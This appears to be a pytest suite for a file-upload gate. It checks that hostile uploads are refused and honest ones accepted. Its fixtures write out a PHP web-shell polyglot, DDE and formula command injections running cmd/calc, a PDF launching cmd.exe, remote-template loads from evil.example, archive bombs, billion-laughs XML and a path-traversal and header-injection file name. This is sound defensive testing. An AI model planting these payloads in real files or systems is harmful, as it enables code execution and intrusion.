"""Files that somebody sends to do harm: each by its name, and what is said of it (requirement F5)."""

from collections.abc import Callable
from dataclasses import dataclass

import pytest
from pikepdf import Dictionary

from goodstanding.core.appeals.evidence import FileKind, FileLimits, Unfit, clean_name, download_name, recognise, refusal
from goodstanding.core.file_terms import FileTrouble
from goodstanding.intake.files.looking import look
from tests import made_files as made


@dataclass(frozen=True)
class Hostile:
    """One file: its name, how it is made, and for what it is refused."""

    what: str
    name: str
    make: Callable[[], bytes]
    trouble: FileTrouble

    def __str__(self) -> str:
        return self.what


HOSTILE = [
    # two in one
    Hostile("polyglot of PDF and HTML", "invoice.pdf", lambda: made.pdf().replace(b"\n", b"\n<html><script>1</script>\n", 1), FileTrouble.TWO_IN_ONE),
    Hostile("polyglot of GIF and script", "a.gif", lambda: b"GIF89a/*" + b"\0" * 100 + b"*/=1;alert(1);", FileTrouble.DAMAGED),
    Hostile("polyglot of JPEG and archive", "a.jpg", lambda: made.picture() + made.docx(), FileTrouble.TWO_IN_ONE),
    Hostile("polyglot of PNG and PHP", "a.png", lambda: made.picture("PNG") + b"<?php system($_GET[0]); ?>", FileTrouble.TWO_IN_ONE),
    Hostile("JPEG that goes on as HTML", "a.jpg", lambda: made.picture()[:20] + made.HTML, FileTrouble.DAMAGED),
    # pictures
    Hostile("SVG with script", "a.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", FileTrouble.MARKUP),
    Hostile("picture of 60,000 x 60,000 pixels", "a.png", made.huge_picture, FileTrouble.TOO_MANY_PIXELS),
    Hostile("picture that ends early", "a.png", lambda: made.picture("PNG", (900, 900)).replace(b"IDAT", b"IDAX", 1), FileTrouble.DAMAGED),
    Hostile("photo cut off in the middle", "a.jpg", lambda: made.noise()[:9000], FileTrouble.DAMAGED),
    # PDFs
    Hostile("PDF with a script", "a.pdf", made.pdf_with_script, FileTrouble.ACTIVE),
    Hostile("PDF that runs a script when opened", "a.pdf", lambda: made.pdf_that_opens("JavaScript", JS="app.alert(1)"), FileTrouble.ACTIVE),
    Hostile("PDF that starts a program", "a.pdf", lambda: made.pdf_that_opens("Launch", F="cmd.exe"), FileTrouble.ACTIVE),
    Hostile("PDF that sends a form", "a.pdf", lambda: made.pdf_with(AA=Dictionary(WC=made._action("SubmitForm", F="http://e"))), FileTrouble.ACTIVE),
    Hostile("PDF with a program inside", "a.pdf", lambda: made.pdf_with_file("x.exe", b"MZ\x90"), FileTrouble.HOLDS_FILES),
    Hostile("PDF locked with a password", "a.pdf", lambda: made.pdf_locked(user="secret"), FileTrouble.LOCKED),
    Hostile("PDF of 10,000 pages", "a.pdf", lambda: made.pdf(10_000), FileTrouble.TOO_MANY_PAGES),
    Hostile("PDF without a page", "a.pdf", lambda: b"%PDF-1.7\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n", FileTrouble.DAMAGED),
    # office files
    Hostile("archive bomb called DOCX", "a.docx", lambda: made.docx(word__media__x_dot_bin=b"\0" * 90_000_000), FileTrouble.UNPACKS),
    Hostile("DOCX of 5,000 files", "a.docx", lambda: made.docx(**{f"word__{n}_dot_xml": "<x/>" for n in range(5000)}), FileTrouble.UNPACKS),
    Hostile("billion laughs in a DOCX", "a.docx", lambda: made.docx(word__styles_dot_xml=made.LAUGHS), FileTrouble.UNPACKS),
    Hostile("billion laughs in UTF-16", "a.docx", lambda: made.docx(word__styles_dot_xml=made.LAUGHS.encode("utf-16")), FileTrouble.UNPACKS),
    Hostile("DOCX with macros", "a.docx", lambda: made.docx(word__vbaProject_dot_bin=b"x"), FileTrouble.MACROS),
    Hostile("DOCM under another name of its macros", "a.docx", lambda: made.docx(customXml__rels_dot_xml=""), FileTrouble.DAMAGED),
    Hostile("DOCX that loads its template", "a.docx", lambda: made.docx(word___rels__settings_dot_xml_dot_rels=made.relation("attachedTemplate", "http://evil.example/x.dotm")), FileTrouble.REMOTE),
    Hostile("DOCX with a DDE field cut in two", "a.docx", lambda: made.docx(body="<w:p><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\cmd</w:instrText></w:r></w:p>"), FileTrouble.ACTIVE),
    Hostile("DOCX with a program inside", "a.docx", lambda: made.docx(word__embeddings__oleObject1_dot_bin=b"\xd0\xcf\x11\xe0" + b"\0" * 600), FileTrouble.HOLDS_FILES),
    Hostile("XLSX with macros in a sheet inside", "a.docx", lambda: made.docx(word__embeddings__a_dot_xlsx=made.xlsx(xl__vbaProject_dot_bin=b"x")), FileTrouble.HOLDS_FILES),
    Hostile("XLSX with a link to another server", "a.xlsx", lambda: made.xlsx(xl__externalLinks___rels__e1_dot_xml_dot_rels=made.relation("externalLinkPath", "http://evil.example/x")), FileTrouble.REMOTE),
    Hostile("XLSX that runs a command by DDE", "a.xlsx", lambda: made.xlsx(xl__externalLinks__e1_dot_xml='<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'), FileTrouble.ACTIVE),
    Hostile("XLSX with a command in a formula", "a.xlsx", lambda: made.xlsx("<c><f>cmd|' /c calc'!A0</f></c>"), FileTrouble.ACTIVE),
    Hostile("ODT with macros", "a.odt", lambda: made.odt(Basic__Standard__m_dot_xml="<x/>"), FileTrouble.MACROS),
    # names that lie
    Hostile("program called PDF", "invoice.pdf", lambda: b"MZ\x90\0" + b"\0" * 200, FileTrouble.PROGRAM),
    Hostile("HTML called TXT", "invoice.txt", lambda: made.HTML, FileTrouble.MARKUP),
    Hostile("program with two endings", "invoice.pdf.exe", lambda: b"MZ\x90\0" + b"\0" * 200, FileTrouble.PROGRAM),
    # mails
    Hostile("mails in mails, 50 deep", "a.eml", lambda: made.nested_mail(50), FileTrouble.NESTED),
    Hostile("mails in mails, 5,000 deep", "a.eml", lambda: made.nested_mail(5_000), FileTrouble.NESTED),
    Hostile("mail with a program attached", "a.eml", lambda: made.mail(("x.pdf", b"MZ\x90\0")), FileTrouble.HOLDS_FILES),
    Hostile("mail with a PDF with a script", "a.eml", lambda: made.mail(("x.pdf", made.pdf_with_script())), FileTrouble.HOLDS_FILES),
    # sizes
    Hostile("empty file", "a.pdf", lambda: b"", FileTrouble.EMPTY),
    Hostile("huge file", "a.pdf", lambda: made.pdf() + b" " * 11 * 2**20, FileTrouble.TOO_LARGE),
]  # fmt: skip


def first_trouble(name: str, data: bytes) -> Unfit | None:
    """What the gate says, asked here without the process that it asks: `tests/server/services/test_gate.py` is about that one."""
    limits = FileLimits()
    if wrong := refusal(name, data, limits.size):
        return Unfit(FileTrouble(wrong.code), wrong.message)
    kind = recognise(name, data)
    assert isinstance(kind, FileKind)
    return look(kind, data, limits)


@pytest.mark.parametrize("hostile", HOSTILE, ids=str)
def test_a_hostile_file_is_refused_for_what_it_is(hostile: Hostile) -> None:
    """F5."""
    unfit = first_trouble(hostile.name, hostile.make())
    assert unfit is not None
    assert unfit.trouble == hostile.trouble, unfit


HONEST = {
    "invoice.pdf": made.pdf,
    "opens at a page.pdf": made.pdf_at_page,
    "rights only.pdf": lambda: made.pdf_locked(user=""),
    "e-invoice.pdf": lambda: made.pdf_with_file("factur-x.xml", b'<?xml version="1.0"?><invoice/>'),
    "photo.jpg": made.photo,
    "photo.png": lambda: made.picture("PNG"),
    "photo.webp": lambda: made.picture("WEBP"),
    "photo.gif": lambda: made.picture("GIF"),
    "photo with a film behind it.jpg": lambda: made.photo() + b"\0\0\0\x18ftypmp42" + b"\0" * 500,
    "letter.docx": made.docx,
    "letter with a link.docx": lambda: made.docx(word___rels__document_dot_xml_dot_rels=made.relation("hyperlink", "https://acme.example/")),
    "letter with a sheet.docx": lambda: made.docx(word__embeddings__a_dot_xlsx=made.xlsx()),
    "orders.xlsx": made.xlsx,
    "Brief.odt": made.odt,
    "mail.eml": lambda: made.mail(("invoice.pdf", made.pdf())),
    "forwarded.eml": lambda: made.nested_mail(3),
    "orders.csv": lambda: "订单,日期\n1,2026-11-01\n".encode("gb18030"),
    "note.txt": lambda: "根本原因".encode(),
}


@pytest.mark.parametrize("name", HONEST)
def test_what_honest_holders_send_is_taken(name: str) -> None:
    assert first_trouble(name, HONEST[name]()) is None


def test_a_name_with_folders_control_signs_and_a_turned_direction_is_only_a_name() -> None:
    name = "../../etc/inv\u202efdp.exe\r\nContent-Type: text/html\0.pdf"
    assert not set(clean_name(name)) & set("/\\\r\n\0\u202e")
    assert download_name(clean_name("invoice.pdf.exe"), "application/pdf") == "invoice.pdf.exe.pdf"


def test_formulas_in_a_table_are_text_and_its_type_says_so() -> None:
    """A CSV cannot harm who does not open it in a spreadsheet; reviewers are told which would."""
    kind = recognise("orders.csv", b"id,name\n1,=cmd|' /c calc'!A0\n")
    assert kind.content_type == "text/csv"  # type: ignore[union-attr]
